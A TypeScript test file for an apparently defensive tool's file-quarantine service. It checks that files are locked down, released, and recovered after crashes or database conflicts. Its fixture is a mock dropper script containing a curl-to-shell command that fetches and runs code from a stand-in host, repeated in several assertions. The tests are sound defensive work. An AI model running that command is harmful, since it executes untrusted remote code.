import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Database } from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { QuarantinedFile } from '../../../src-main/contract';
import { createServiceContext, type ServiceContext } from '../../../src-main/services/context';
import { dispatchAsync } from '../../../src-main/services/dispatch';
import { openDatabase } from '../../../src-main/store/database';

const mode = (file: string) => fs.statSync(file).mode & 0o777;
const quarantineFolder = (ctx: ServiceContext) => path.join(ctx.dataDir, 'quarantine');
const leftInQuarantine = (ctx: ServiceContext) => (fs.existsSync(quarantineFolder(ctx)) ? fs.readdirSync(quarantineFolder(ctx), { recursive: true }) : []);

/** Another process holding the write lock, and a context that gives up after a moment instead of 5 s. */
function lockDatabase(ctx: ServiceContext): Database {
  const other = openDatabase(ctx.dataDir);
  other.exec('BEGIN IMMEDIATE');
  ctx.db.pragma('busy_timeout = 100');
  return other;
}

function unlock(ctx: ServiceContext, other: Database): void {
  other.exec('ROLLBACK');
  other.close();
  ctx.db.pragma('busy_timeout = 5000');
}

/** Each case in a data dir under `dataParent`, the suspect file in the usual temp folder. */
function quarantineCases(dataParent: string) {
  let ctx: ServiceContext;
  let work: string;
  let suspect: string;
  beforeEach(() => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'firebreak-quarantine-'));
    ctx = createServiceContext({ dataDir: fs.mkdtempSync(path.join(dataParent, 'firebreak-quarantine-data-')), transport: 'http' });
    suspect = path.join(work, 'dropper.sh');
    fs.writeFileSync(suspect, '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n');
    fs.chmodSync(suspect, 0o750);
  });
  afterEach(() => {
    ctx.db.close();
    fs.rmSync(work, { recursive: true, force: true });
    fs.rmSync(ctx.dataDir, { recursive: true, force: true });
  });

  it('moves the file in with its permissions stripped, leaves no temporary, and puts it back with its mode', async () => {
    const added = await dispatchAsync(ctx, 'quarantine.add', { file: suspect });
    expect(added).toMatchObject({ ok: true });
    const entry = (added as { value: QuarantinedFile }).value;
    expect(fs.existsSync(suspect)).toBe(false);
    expect(fs.readdirSync(path.dirname(entry.storedPath))).toEqual(['dropper.sh']);
    expect(mode(entry.storedPath)).toBe(0o000);
    expect(await dispatchAsync(ctx, 'quarantine.release', { id: entry.id })).toMatchObject({ ok: true, value: { releasedAt: expect.any(String) } });
    expect([fs.readFileSync(suspect, 'utf8'), mode(suspect)]).toEqual(['#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', 0o750]);
    expect(leftInQuarantine(ctx)).toEqual([]);
  });

  it('puts the file back where it was, with its mode, when the quarantine cannot be recorded', async () => {
    const other = lockDatabase(ctx);
    try {
      expect(await dispatchAsync(ctx, 'quarantine.add', { file: suspect })).toEqual({ ok: false, error: { code: 'conflict', message: expect.stringContaining('Try again') } });
      expect([fs.readFileSync(suspect, 'utf8'), mode(suspect)]).toEqual(['#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', 0o750]);
      expect(leftInQuarantine(ctx)).toEqual([]);
    } finally {
      unlock(ctx, other);
    }
    expect(await dispatchAsync(ctx, 'quarantine.list', {})).toEqual({ ok: true, value: { files: [] } });
    // Trying again once the database is free works.
    expect(await dispatchAsync(ctx, 'quarantine.add', { file: suspect })).toMatchObject({ ok: true });
    expect(fs.existsSync(suspect)).toBe(false);
  });

  it('keeps the file in quarantine, still locked down, when its release cannot be recorded', async () => {
    const entry = ((await dispatchAsync(ctx, 'quarantine.add', { file: suspect })) as { value: QuarantinedFile }).value;
    const other = lockDatabase(ctx);
    try {
      expect(await dispatchAsync(ctx, 'quarantine.release', { id: entry.id })).toMatchObject({ ok: false, error: { code: 'conflict' } });
      expect(fs.existsSync(suspect)).toBe(false);
      expect(mode(entry.storedPath)).toBe(0o000);
    } finally {
      unlock(ctx, other);
    }
    expect(await dispatchAsync(ctx, 'quarantine.list', {})).toMatchObject({ ok: true, value: { files: [{ id: entry.id, releasedAt: null }] } });
    expect(await dispatchAsync(ctx, 'quarantine.release', { id: entry.id })).toMatchObject({ ok: true });
    expect([fs.readFileSync(suspect, 'utf8'), mode(suspect)]).toEqual(['#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', 0o750]);
  });

  /** What a crash leaves: the intent row written before a move, and the file wherever the move got to. */
  function interrupted(state: 'moving-in' | 'moving-out', fileAt: 'home' | 'quarantine' | 'both' | 'neither', { partialCopy = false, moverPid = null as number | null } = {}): { id: string; stored: string } {
    const id = 'Q-0000abcd';
    const stored = path.join(quarantineFolder(ctx), id, 'dropper.sh');
    const sha = createHash('sha256').update(fs.readFileSync(suspect)).digest('hex');
    fs.mkdirSync(path.dirname(stored), { recursive: true });
    if (fileAt !== 'home') fs.copyFileSync(suspect, stored);
    if (fileAt === 'quarantine' || fileAt === 'neither') fs.rmSync(suspect);
    if (fileAt === 'neither') fs.rmSync(stored);
    if (partialCopy) fs.writeFileSync(path.join(path.dirname(stored), '.dropper.sh.tmp-1'), '#!/bin/sh\ncu');
    ctx.db
      .prepare("INSERT INTO quarantine (id, incident_id, original_path, stored_path, sha256, size, mode, quarantined_at, quarantined_by, state, mover_pid) VALUES (?, NULL, ?, ?, ?, ?, ?, '2026-11-30T04:00:00.000Z', 'ana', ?, ?)")
      .run(id, suspect, stored, sha, 42, 0o100750, state, moverPid);
    return { id, stored };
  }
  const listAll = async () => ((await dispatchAsync(ctx, 'quarantine.list', { includeReleased: true })) as { value: { files: QuarantinedFile[] } }).value.files;

  it('finishes a quarantine a crash interrupted after the file left home: held, locked down, recorded', async () => {
    const { id, stored } = interrupted('moving-in', 'quarantine');
    expect(await listAll()).toEqual([expect.objectContaining({ id, state: 'held', storedPath: stored, releasedAt: null })]);
    expect(mode(stored)).toBe(0o000);
    expect(fs.existsSync(suspect)).toBe(false);
  });

  it('marks a quarantine a crash interrupted before the file left home as not moved, and removes the partial copy', async () => {
    const { id } = interrupted('moving-in', 'home', { partialCopy: true });
    expect(await listAll()).toEqual([expect.objectContaining({ id, state: 'not-moved' })]);
    expect([fs.readFileSync(suspect, 'utf8'), mode(suspect)]).toEqual(['#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', 0o750]);
    expect(leftInQuarantine(ctx)).toEqual([]);
    // Not in quarantine, so not releasable: the error says where the file is.
    expect(await dispatchAsync(ctx, 'quarantine.release', { id })).toMatchObject({ ok: false, error: { code: 'conflict', message: expect.stringContaining(`still at ${suspect}`) } });
  });

  it('keeps the quarantined copy when a new file appeared at home since (a re-dropped payload), and drops a copy of the same file', async () => {
    const { id, stored } = interrupted('moving-in', 'both');
    fs.writeFileSync(suspect, 'echo re-dropped\n');
    expect(await listAll()).toEqual([expect.objectContaining({ id, state: 'held' })]);
    expect(fs.existsSync(stored)).toBe(true);
    expect(mode(stored)).toBe(0o000);

    fs.rmSync(quarantineFolder(ctx), { recursive: true, force: true });
    ctx.db.prepare('DELETE FROM quarantine').run();
    fs.writeFileSync(suspect, '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n');
    // A copy across file systems committed, the original not yet unlinked: the same bytes twice.
    const copy = interrupted('moving-in', 'both');
    expect(await listAll()).toEqual([expect.objectContaining({ id: copy.id, state: 'not-moved' })]);
    expect(fs.existsSync(copy.stored)).toBe(false);
    expect(fs.readFileSync(suspect, 'utf8')).toContain('203.0.113.9');
  });

  it('marks a move that left the file in neither place as missing, and leaves a move still running alone', async () => {
    const { id } = interrupted('moving-in', 'neither');
    expect(await listAll()).toEqual([expect.objectContaining({ id, state: 'missing' })]);
    expect(await dispatchAsync(ctx, 'quarantine.release', { id })).toMatchObject({ ok: false, error: { message: expect.stringContaining('left the file neither at') } });

    ctx.db.prepare('DELETE FROM quarantine').run();
    fs.writeFileSync(suspect, '#!/bin/sh\n');
    // Another live process (this test's parent) wrote the intent: its move is not interrupted.
    const running = interrupted('moving-in', 'home', { moverPid: process.ppid });
    expect(await listAll()).toEqual([expect.objectContaining({ id: running.id, state: 'moving-in' })]);
  });

  it('keeps a file whose release cannot be recorded in quarantine, says so, and repairs the record later', async () => {
    const entry = ((await dispatchAsync(ctx, 'quarantine.add', { file: suspect })) as { value: QuarantinedFile }).value;
    ctx.db.exec("CREATE TRIGGER refuse_release BEFORE UPDATE ON quarantine WHEN NEW.state IN ('released', 'held') BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END");
    const released = await dispatchAsync(ctx, 'quarantine.release', { id: entry.id });
    expect(released).toMatchObject({ ok: false, error: { message: expect.stringContaining('database or disk is full') } });
    expect(JSON.stringify(released)).not.toContain('could not be recorded nor undone');
    expect(fs.existsSync(suspect)).toBe(false);
    expect(mode(entry.storedPath)).toBe(0o000);
    ctx.db.exec('DROP TRIGGER refuse_release');
    expect(await listAll()).toEqual([expect.objectContaining({ id: entry.id, state: 'held' })]);
    expect(await dispatchAsync(ctx, 'quarantine.release', { id: entry.id })).toMatchObject({ ok: true, value: { state: 'released' } });
  });

  it('records a release a crash interrupted after the file went home, with its mode', async () => {
    const { id } = interrupted('moving-out', 'home');
    expect(await listAll()).toEqual([expect.objectContaining({ id, state: 'released', releasedAt: expect.any(String) })]);
    expect(mode(suspect)).toBe(0o750);
    expect(leftInQuarantine(ctx)).toEqual([]);
  });
}

describe('quarantine on one file system', () => {
  quarantineCases(os.tmpdir());
});

// A data dir on another file system (tmpfs here) takes the copy path instead of rename(2).
const otherDevice = ['/dev/shm'].find((dir) => fs.existsSync(dir) && fs.statSync(dir).dev !== fs.statSync(os.tmpdir()).dev);
describe.skipIf(!otherDevice)('quarantine across file systems (skipped when there is no second file system such as /dev/shm)', () => {
  quarantineCases(otherDevice ?? os.tmpdir());
});
